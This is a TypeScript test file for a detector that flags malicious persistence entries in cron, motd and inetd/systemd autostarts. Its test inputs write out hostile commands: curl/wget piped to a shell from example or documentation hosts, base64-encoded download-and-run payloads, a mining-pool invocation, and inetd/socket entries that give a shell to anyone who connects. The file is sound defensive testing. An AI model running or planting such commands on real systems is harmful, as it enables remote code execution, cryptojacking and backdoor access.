import assert from 'node:assert/strict'
import { test } from 'node:test'
import { autostartOf, fileOf } from '../../test/facts.ts'
import { intelWith } from '../../test/intel-with.ts'
import { factsOf } from '../core/facts.ts'
import { persistenceDownloads } from './persistence-downloads.ts'

const detect = (command: string, files = [fileOf({ path: '/x' })]) => [
  ...persistenceDownloads.detect(factsOf({ autostarts: [autostartOf({ path: '/etc/cron.d/x', command })], files }), intelWith(), new Set()),
]

test('hit: fetch and run, decode and run, a listed host, a miner', () => {
  assert.equal(detect('curl -fsSL http://203.0.113.5/x | sh')[0]?.severity, 'high')
  assert.equal(detect('curl -fsSL https://a.example/x | sh')[0]?.severity, 'medium')
  assert.equal(detect('wget -q https://pool.example/x -O /opt/x')[0]?.severity, 'high')
  assert.equal(detect('wget -q https://code.example/evil/setup.sh -O /opt/x')[0]?.severity, 'high')
  assert.notEqual(detect('wget -q https://code.example/good/setup.sh -O /opt/x')[0]?.severity, 'high')
  assert.equal(detect(`echo ${btoa('wget -qO- http://203.0.113.5/x | bash')} | base64 -d | bash`)[0]?.severity, 'high')
  assert.equal(detect('/usr/bin/a -o stratum+tcp://a.example:1 -u w -p x')[0]?.signal, 'mining')
})

test('near miss: pings, web crons, renewals, backups, a packaged job', () => {
  for (const command of [
    'curl -fsS https://healthchecks.io/ping >/dev/null',
    'wget -q -O - https://site.example/cron.php >/dev/null 2>&1',
    'certbot -q renew',
    'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }',
    'pg_dump x | gzip > /backup/x.gz',
    '/opt/company/bin/job.sh',
  ])
    assert.equal(detect(command).length, 0, command)
  assert.equal(detect('curl https://get.acme.sh | sh')[0]?.severity, 'low')
  assert.equal(detect('curl http://203.0.113.5/x | sh', [fileOf({ path: '/etc/cron.d/x', packaged: 'intact' })]).length, 0)
})

test('the text of a file that is an entry as a whole; a shell given to whoever connects', () => {
  const whole = (head: string, path = '/etc/update-motd.d/99-x') => {
    const autostarts = [autostartOf({ path, command: path, extent: 'file', kind: 'motd' })]
    return [
      ...persistenceDownloads.detect(factsOf({ autostarts, files: [fileOf({ path, magic: 'script', head })] }), intelWith(), new Set()),
    ]
  }
  assert.equal(whole('#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n')[0]?.severity, 'high')
  assert.equal(whole('#!/usr/bin/python3\nimport base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n')[0]?.severity, 'medium')
  const unpacks = 'curl -fsSL -o /tmp/g.tgz https://a.example/g.tgz && tar -xzf /tmp/g.tgz\nnohup /usr/bin/x >/dev/null 2>&1 &'
  assert.deepEqual(whole(`#!/bin/sh\n${unpacks}\n`), [])
  const listening = (kind: string, command: string) => [
    ...persistenceDownloads.detect(factsOf({ autostarts: [autostartOf({ path: '/etc/x', kind, command })] }), intelWith(), new Set()),
  ]
  assert.equal(listening('inetd', '/bin/sh sh -i')[0]?.severity, 'high')
  assert.equal(listening('systemd-socket', '-/bin/bash -i')[0]?.severity, 'high')
  assert.deepEqual(listening('inetd', '/bin/sh sh /usr/lib/serve.sh'), [])
  assert.deepEqual(listening('systemd-service', '/bin/bash -i'), [])
})

test('an entry that is switched off weighs one step less', () => {
  const off = (command: string) => {
    const autostarts = [autostartOf({ path: '/etc/x', command, disabled: true })]
    return [...persistenceDownloads.detect(factsOf({ autostarts }), intelWith(), new Set())][0]?.severity
  }
  assert.equal(off('curl -fsSL http://203.0.113.5/x | sh'), 'medium')
  assert.equal(off('curl -fsSL https://a.example/x | sh'), 'low')
})
